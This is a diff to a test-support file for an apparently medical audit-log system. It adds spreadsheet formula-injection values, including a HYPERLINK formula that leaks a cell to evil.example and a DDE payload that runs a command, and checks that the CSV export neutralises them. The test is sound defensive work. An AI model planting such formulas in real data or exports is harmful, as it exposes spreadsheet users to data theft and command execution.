@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 from dataclasses import dataclass
 from datetime import UTC, datetime, timedelta
 
@@ -199,3 +201,26 @@ def record_history(h: History) -> None:
     h.deliver(STUDY_C, job, DAY2 + timedelta(hours=9, minutes=1), fail_first=True)
     h.receive(STUDY_D, DAY2 + timedelta(hours=10), processable=False)
     h.skip(STUDY_D, DAY2 + timedelta(hours=10, seconds=11))
+
+
+FORMULAS = {
+    "patient_id": "=1+2",
+    "accession": '=HYPERLINK("http://evil.example/?"&A1,"open")',
+    "actor_ae": "@SUM(A1)",
+    "actor_user": "+cmd|' /C calc'!A0",
+    "series_uid": "-2+3",
+    "sop_uid": "\t=1+2",
+    "study_uid": "\r=1+2",
+}
+
+
+def record_formulas(db: Database) -> None:
+    """An event whose received identifiers are spreadsheet formulas."""
+    with db.transaction() as session:
+        audit.record(session, "instance.refused", audit.Outcome.FAILURE, **FORMULAS)
+
+
+def assert_formulas_neutralised(exported: str) -> None:
+    (row,) = [r for r in csv.DictReader(io.StringIO(exported)) if r["action"] == "instance.refused"]
+    for field, value in FORMULAS.items():
+        assert row[field] == "'" + value, field  # read back: text, the value whole after "'"
